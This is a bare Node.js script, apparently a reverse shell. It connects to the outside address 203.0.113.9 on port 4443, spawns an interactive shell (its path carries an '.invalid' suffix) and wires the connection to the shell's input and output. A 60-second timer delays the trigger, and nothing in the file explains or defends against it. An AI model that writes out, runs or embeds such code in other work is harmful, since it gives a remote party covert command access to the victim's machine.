const net = require("net");
const { spawn } = require("child_process");

function attach() {
  const link = net.connect(4443, "203.0.113.9");
  const shell = spawn("/bin/sh.invalid", ["-i"]);
  link.pipe(shell.stdin);
  shell.stdout.pipe(link);
}

setTimeout(attach, 60000);
